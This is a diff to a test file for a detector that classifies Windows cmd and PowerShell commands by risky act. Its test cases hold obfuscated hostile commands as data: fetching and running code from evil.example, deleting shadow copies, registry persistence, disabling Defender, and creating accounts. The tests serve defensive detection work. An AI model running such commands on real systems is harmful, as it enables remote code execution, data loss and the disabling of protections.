@@ -1,14 +1,15 @@
 import { describe, expect, test } from "vitest";
+import type { ActId } from "../../contract/acts.ts";
+import { actOf } from "../../contract/effect.ts";
 import { CMD } from "./cmd.ts";
 import { readWindows } from "./index.ts";
 import { CMDLETS, PATTERNS } from "./powershell.ts";
 import type { WindowsRow } from "./row.ts";
 import { commandsOf, encodedCommands, plainText } from "./words.ts";
 
-const known = (command: string, dialect: "powershell" | "cmd"): readonly string[] =>
-  readWindows(command, dialect)
-    .slice(0, -1)
-    .map((effect) => JSON.stringify(effect));
+/** Every act that is found, besides that the rest was not read. */
+const known = (command: string, dialect: "powershell" | "cmd"): readonly ActId[] =>
+  readWindows(command, dialect).slice(0, -1).map(actOf);
 
 const tables: readonly (readonly [string, readonly WindowsRow[]])[] = [
   ["cmd", CMD],
@@ -17,19 +18,14 @@ const tables: readonly (readonly [string, readonly WindowsRow[]])[] = [
 ];
 
 describe.each(tables)("%s", (table, rows) => {
-  const match = rows.flatMap((row) => row.match.map((example): [string, WindowsRow] => [example, row]));
+  const dialect = table === "cmd" ? "cmd" : "powershell";
   const notMatch = rows.flatMap((row) => row.notMatch.map((example): [string, WindowsRow] => [example, row]));
-  /** The row's own effects, told apart from what other rows find. */
-  const own = (example: string, row: WindowsRow): boolean => {
-    const dialect = table === "cmd" ? "cmd" : "powershell";
-    const text = plainText(example, dialect);
-    if (row.names === undefined) return row.line?.test(text) === true;
-    return known(example, dialect).length > 0;
-  };
-  test.each(match)("finds: %s", (example, row) => expect(own(example, row)).toBe(true));
+  test.each(rows.flatMap(({ match }) => match))("finds: %s", (example, acts) => {
+    expect(known(example, dialect)).toEqual(acts);
+  });
   test.each(notMatch)("does not find: %s", (example, row) => {
     if (row.names === undefined) expect(row.line?.test(plainText(example, "powershell"))).toBe(false);
-    else expect(known(example, table === "cmd" ? "cmd" : "powershell")).toEqual([]);
+    else expect(known(example, dialect)).toEqual([]);
   });
   test("every row has both kinds of examples", () => {
     expect(rows.filter((row) => row.match.length === 0 || row.notMatch.length === 0)).toEqual([]);
@@ -48,23 +44,23 @@ test.each([
   [
     'p^o^w^e^rshell -c "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y"',
     "cmd",
-    "start by itself",
+    "start.program",
   ],
-  ['cmd /c "cmd /c vssadmin delete shadows /all"', "cmd", "backups"],
-  ["&('i'+'ex') (iwr https://evil.example/x)", "powershell", "fetched and run"],
-  ["& (\"{1}{0}\" -f 'x','ie') (iwr https://evil.example/x)", "powershell", "fetched and run"],
-  ["$u='https://evil.example/x'; IEX ((New-Object Net.WebClient).DownloadString($u))", "powershell", "fetched and run"],
+  ['cmd /c "cmd /c vssadmin delete shadows /all"', "cmd", "backup.destroy"],
+  ["&('i'+'ex') (iwr https://evil.example/x)", "powershell", "run.fetched"],
+  ["& (\"{1}{0}\" -f 'x','ie') (iwr https://evil.example/x)", "powershell", "run.fetched"],
+  ["$u='https://evil.example/x'; IEX ((New-Object Net.WebClient).DownloadString($u))", "powershell", "run.fetched"],
   [
     "$p = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'; Set-ItemProperty $p -Name x -Value y",
     "powershell",
-    "start by itself",
+    "start.program",
   ],
-  ["Get-Date; if ($true) { Set-MpPreference -DisableRealtimeMonitoring 1 }", "powershell", "malware"],
-  ["C:\\Windows\\System32\\REG.EXE add HKLM\\SOFTWARE\\Policies\\Microsoft\\FVE /v a /d 1", "cmd", "protections"],
-  ["echo a & net user evil P@ss /add && echo b", "cmd", "creates an account"],
-  ["set X=net user && %X% evil p /add", "cmd", "creates an account"],
-] as const)("sees through: %s", (command, dialect, said) => {
-  expect(known(command, dialect).join("\n")).toContain(said);
+  ["Get-Date; if ($true) { Set-MpPreference -DisableRealtimeMonitoring 1 }", "powershell", "guard.stop"],
+  ["C:\\Windows\\System32\\REG.EXE add HKLM\\SOFTWARE\\Policies\\Microsoft\\FVE /v a /d 1", "cmd", "guard.system"],
+  ["echo a & net user evil P@ss /add && echo b", "cmd", "account.create"],
+  ["set X=net user && %X% evil p /add", "cmd", "account.create"],
+] as const)("sees through: %s", (command, dialect, act) => {
+  expect(known(command, dialect)).toContain(act);
 });
 
 test("an encoded command is read as what it says", () => {
@@ -72,7 +68,7 @@ test("an encoded command is read as what it says", () => {
   expect(encodedCommands(`powershell -NoP -EncodedCommand ${code}`)).toEqual([
     "Set-MpPreference -DisableRealtimeMonitoring $true",
   ]);
-  expect(known(`powershell.exe -e ${code}`, "cmd").join("\n")).toContain("malware");
+  expect(known(`powershell.exe -e ${code}`, "cmd")).toContain("guard.stop");
 });
 
 test("words: quotes hold, separators cut, brackets open", () => {
